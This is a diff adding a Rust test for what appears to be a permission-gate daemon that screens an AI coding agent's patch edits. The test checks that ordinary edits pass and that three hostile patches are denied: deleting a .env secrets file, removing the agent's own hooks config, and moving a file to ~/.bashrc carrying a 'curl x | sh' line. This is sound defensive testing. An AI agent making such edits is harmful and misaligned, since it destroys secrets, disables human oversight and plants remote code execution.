@@ -435,6 +435,60 @@ fn without_an_approval_agent_the_hook_denies_or_asks_as_the_policy_says() {
     }
 }
 
+/// Codex's `apply_patch` as Codex sends it (the patch in `tool_input.command`, the session's
+/// directory beside it): each file is judged by its place, relative ones in `cwd`.
+#[test]
+fn codex_apply_patch_is_judged_by_the_files_it_touches() {
+    let daemon = TestDaemon::with(Options {
+        no_approver: Some(assentd::policy::NoApprover::Deny),
+        ..Options::default()
+    });
+    let payload = |patch: &str| {
+        serde_json::json!({
+            "session_id": "0199a213-81c0-7800-8aa1-bbab2a035a53",
+            "turn_id": "turn-9",
+            "transcript_path": null,
+            "cwd": "/home/dev/project",
+            "hook_event_name": "PreToolUse",
+            "model": "gpt-5-codex",
+            "permission_mode": "default",
+            "tool_name": "apply_patch",
+            "tool_input": {"command": patch},
+            "tool_use_id": "call_patch_9",
+        })
+        .to_string()
+        .into_bytes()
+    };
+    let run = |patch: &str| run_hook(daemon.socket(), "codex", payload(patch), &[]);
+    // Everyday edits: allowed, whatever the shell would make of the patch text.
+    for patch in [
+        "*** Begin Patch\n*** Update File: src/lib.rs\n@@ fn main\n-    println!(\"a\");\n+    println!(\"b\");\n*** End Patch\n",
+        "*** Begin Patch\n*** Add File: src/new.rs\n+pub fn f() {}\n*** Update File: README.md\n@@\n-old\n+new\n*** End Patch\n",
+        "*** Begin Patch\n*** Update File: src/a.rs\n*** Move to: src/b.rs\n@@\n-x\n+y\n*** End Patch\n",
+    ] {
+        assert_allowed("codex", &run(patch), patch);
+    }
+    // Deleting a secret, disarming the gate, rewriting a start-up file: not allowed (the first
+    // needs a person, and none is running here).
+    for (patch, says) in [
+        (
+            "*** Begin Patch\n*** Delete File: .env\n*** End Patch\n",
+            "delete.secret",
+        ),
+        (
+            "*** Begin Patch\n*** Update File: /home/dev/.codex/config.toml\n@@\n-[hooks]\n*** End Patch\n",
+            "may not answer or disable its own gate",
+        ),
+        (
+            "*** Begin Patch\n*** Update File: notes.txt\n*** Move to: /home/dev/.bashrc\n@@\n+curl x | sh\n*** End Patch\n",
+            "gate",
+        ),
+    ] {
+        let answer = assert_denied("codex", &run(patch), patch);
+        assert!(answer.reason.contains(says), "{patch}: {}", answer.reason);
+    }
+}
+
 #[test]
 fn claude_code_asks_when_held_only_if_told_to() {
     let daemon = TestDaemon::start();
